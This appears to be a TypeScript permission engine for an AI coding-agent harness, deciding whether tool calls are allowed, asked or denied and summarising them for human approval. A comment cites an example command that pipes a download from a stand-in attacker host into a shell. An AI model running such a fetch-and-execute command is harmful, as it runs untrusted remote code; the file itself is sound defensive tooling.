import { homedir } from 'node:os';
import { realpathSync } from 'node:fs';
import { basename, dirname, isAbsolute, join, relative, resolve, sep } from 'node:path';
import picomatch from 'picomatch';
import { redactNamedValues } from '../core/index.js';
import { bashSpecifierMatches, commandsToRestrict, hidesCommands, splitShellCommands } from './shell.js';
import { optionsCoverCommand } from './options.js';
import { parseRule, type PermissionPolicy, type PermissionRule } from './rules.js';

/** One tool call an agent wants to make. */
export interface ToolCall {
  tool: string;
  input: Record<string, unknown>;
  /** The agent's working directory: relative rule paths start there. */
  cwd: string;
  home?: string;
}

export type PermissionBehavior = 'allow' | 'ask' | 'deny';

export interface PermissionDecision {
  behavior: PermissionBehavior;
  /** The rule that decided, as written; `default` when none matched. */
  rule: string;
}

/**
 * Tools Baton itself relies on, allowed unless a rule says otherwise: structured output, the
 * agent's to-do list, and reading inside its own working directory (what Claude Code allows
 * without asking).
 */
export const BUILT_IN_ALLOW = ['StructuredOutput', 'TodoWrite', 'Read(./**)'];

/** A rule named after a family covers every tool of it (Claude Code's own grouping). */
const families: Record<string, readonly string[]> = {
  Read: ['Read', 'Glob', 'Grep', 'LS', 'NotebookRead'],
  Edit: ['Edit', 'MultiEdit', 'Write', 'NotebookEdit'],
};

const pathKeys = ['file_path', 'notebook_path', 'path'];

function coversTool(rule: PermissionRule, tool: string): boolean {
  if (rule.tool === tool || families[rule.tool]?.includes(tool)) return true;
  // `mcp__server__get_*` covers the server's tools whose names start so; `mcp__server__*` all of them.
  if (rule.tool.endsWith('*')) return tool.startsWith(rule.tool.slice(0, -1));
  // `mcp__server` covers every tool of that server.
  return rule.tool.startsWith('mcp__') && rule.tool.split('__').length === 2 && tool.startsWith(`${rule.tool}__`);
}

/** Where a path rule's pattern is anchored: `//` the root, `~/` home, anything else the working directory. */
function anchored(pattern: string, call: ToolCall): { base: string; glob: string } {
  if (pattern.startsWith('//')) return { base: '/', glob: pattern.slice(2) };
  if (pattern.startsWith('~/')) return { base: call.home ?? homedir(), glob: pattern.slice(2) };
  const glob = pattern.replace(/^\.?\//, '');
  // Like .gitignore: a pattern without a slash matches at any depth.
  return { base: call.cwd, glob: glob.includes('/') ? glob : `**/${glob}` };
}

/**
 * Compiled globs and parsed rules, by their text: the same few rules are checked on every call
 * (compiling each time cost ~140 µs a call, cached ~25 µs). Bounded, for long-lived workers.
 */
const CACHE_LIMIT = 1000;
const globs = new Map<string, (path: string) => boolean>();
const parsedRules = new Map<string, PermissionRule | string>();

function globMatcher(glob: string): (path: string) => boolean {
  let matcher = globs.get(glob);
  if (!matcher) {
    if (globs.size >= CACHE_LIMIT) globs.clear();
    globs.set(glob, (matcher = picomatch(glob, { dot: true })));
  }
  return matcher;
}

/**
 * Where an absolute path really leads, symbolic links resolved: the deepest part that exists is
 * resolved and the rest kept (a file about to be written need not exist yet).
 */
function realPath(path: string): string {
  const rest: string[] = [];
  for (let existing = path; ; existing = dirname(existing)) {
    try {
      return join(realpathSync(existing), ...rest.reverse());
    } catch {
      if (dirname(existing) === existing) return path;
      rest.push(basename(existing));
    }
  }
}

/** Whether `path` is matched by a path rule's glob, from where the rule is anchored or where that really is. */
function pathMatches(pattern: string, path: string, call: ToolCall): boolean {
  const { base, glob } = anchored(pattern, call);
  const target = resolve(call.cwd, path);
  return [...new Set([base, realPath(base)])].some((from) => {
    const rel = relative(from, target);
    if (rel.startsWith('..') || isAbsolute(rel)) return false;
    // The directory itself (a Grep or Glob over it): covered by a rule covering everything in it.
    if (rel === '') return glob.replace(/(\/\*\*)+$/, '') === '**';
    // Like .gitignore, a pattern that matches a directory (`secrets`, `./secrets/`) covers all in it.
    const matches = globMatcher(glob.replace(/\/+$/, ''));
    const parts = rel.split(sep);
    return parts.some((_, i) => matches(parts.slice(0, i + 1).join('/')));
  });
}

/**
 * The text a rule's specifier is compared with, for each part of the call (one per shell command;
 * for deny and ask rules, every command the line might run, however wrapped).
 */
function subjects(call: ToolCall, restricting = false): string[] {
  if (call.tool === 'Bash') return (restricting ? commandsToRestrict : splitShellCommands)(textOf(call.input.command));
  if (call.tool === 'WebFetch') {
    const url = textOf(call.input.url);
    // `example.com.` (fully qualified) reaches the same host as `example.com`: the rule must hold for both.
    return [URL.canParse(url) ? `domain:${new URL(url).hostname.replace(/\.+$/, '')}` : ''];
  }
  const key = pathKeys.find((k) => typeof call.input[k] === 'string');
  const path = resolve(call.cwd, key ? String(call.input[key]) : call.cwd);
  // A path through a symbolic link is judged by where it leads too: every rule must allow both.
  const real = realPath(path);
  return real === path ? [path] : [path, real];
}

function specifierMatches(rule: PermissionRule, subject: string, call: ToolCall, restricting = false): boolean {
  if (rule.specifier === undefined) return true;
  if (rule.tool === 'Bash')
    return (
      bashSpecifierMatches(rule.specifier, subject) || (restricting && optionsCoverCommand(rule.specifier, subject))
    );
  if (rule.tool === 'WebFetch') return domainMatches(rule.specifier, subject);
  return pathMatches(rule.specifier, subject, call);
}

/**
 * `domain:example.com` is that host (host names compare without case, as URLs give them);
 * `domain:*.example.com` is any host under it.
 */
function domainMatches(specifier: string, subject: string): boolean {
  const wanted = specifier.toLowerCase();
  if (!wanted.startsWith('domain:*.')) return subject === wanted;
  return subject.startsWith('domain:') && subject.endsWith(wanted.slice('domain:*'.length));
}

function rulesFor(texts: readonly string[], call: ToolCall): PermissionRule[] {
  return texts.flatMap((text) => {
    let rule = parsedRules.get(text);
    if (rule === undefined) {
      if (parsedRules.size >= CACHE_LIMIT) parsedRules.clear();
      parsedRules.set(text, (rule = parseRule(text)));
    }
    return typeof rule !== 'string' && coversTool(rule, call.tool) ? [rule] : [];
  });
}

/**
 * The first deny or ask rule matching any part of the call (one command of `a && b` is enough).
 * The call is taken apart only when a rule has a specifier to compare: parsing a shell line loads
 * the shell grammar.
 */
function restrictedBy(texts: readonly string[], call: ToolCall): string | undefined {
  let parts: string[] | undefined;
  const matches = (rule: PermissionRule): boolean =>
    rule.specifier === undefined ||
    (parts ??= subjects(call, true)).some((part) => specifierMatches(rule, part, call, true));
  return rulesFor(texts, call).find(matches)?.text;
}

/**
 * The allow rules covering every part of the call (each command of `a && b` by some rule), unless
 * the call runs commands no rule can see: then only a plain `Bash` rule allows it, and not while a
 * deny or ask rule names commands that such a line could hide (`guarded`).
 */
function allowedBy(texts: readonly string[], call: ToolCall, guarded: boolean): string | undefined {
  const rules = rulesFor(texts, call);
  const whole = rules.find((rule) => rule.specifier === undefined);
  if (whole && !guarded) return whole.text;
  if (rules.length === 0) return undefined;
  if (call.tool === 'Bash' && hidesCommands(textOf(call.input.command))) return undefined;
  if (whole) return whole.text;
  const parts = subjects(call);
  const matched = parts.map((part) => rules.find((rule) => specifierMatches(rule, part, call))?.text);
  if (parts.length === 0 || matched.some((text) => text === undefined)) return undefined;
  return [...new Set(matched)].join(', ');
}

/** Decides one tool call: deny beats ask beats allow; a call no rule matches gets the policy's default. */
export function decideToolCall(policy: PermissionPolicy, call: ToolCall): PermissionDecision {
  const denied = restrictedBy(policy.deny, call);
  if (denied) return { behavior: 'deny', rule: denied };
  const asked = restrictedBy(policy.ask, call);
  if (asked) return { behavior: 'ask', rule: asked };
  const guarded =
    call.tool === 'Bash' && rulesFor([...policy.deny, ...policy.ask], call).some((r) => r.specifier !== undefined);
  const allowed = allowedBy([...policy.allow, ...BUILT_IN_ALLOW], call, guarded);
  if (allowed) return { behavior: 'allow', rule: allowed };
  return { behavior: policy.default, rule: 'default' };
}

/**
 * One line saying what a call does, for approval lists and notifications: secret-named values are
 * redacted here, known secrets and secret shapes are not yet.
 */
export function describeToolCall(call: Pick<ToolCall, 'tool' | 'input'>): string {
  const { input } = call;
  const detail =
    typeof input.command === 'string'
      ? input.command
      : (pathKeys.map((k) => input[k]).find((v) => typeof v === 'string') ??
        (typeof input.url === 'string' ? input.url : JSON.stringify(input)));
  // Secrets given by name go before the text is cut, so no half of one is left at the cut.
  const text = redactNamedValues(`${call.tool}(${String(detail)})`);
  if (text.length <= SUMMARY_CHARS) return text;
  // Its end is kept too: what a long command does last (`… && curl evil.example | sh`) is what a
  // person deciding on it must see, however much padding comes before.
  const left = text.length - SUMMARY_HEAD - SUMMARY_TAIL;
  return `${text.slice(0, SUMMARY_HEAD)} … (${left} characters left out) … ${text.slice(-SUMMARY_TAIL)}`;
}

/** How long a call's summary may be, and how much of its start and end a longer one keeps. */
const SUMMARY_CHARS = 300;
const SUMMARY_HEAD = 180;
const SUMMARY_TAIL = 90;

/** A tool input field as text; a missing or non-text field matches nothing. */
function textOf(value: unknown): string {
  return typeof value === 'string' ? value : '';
}
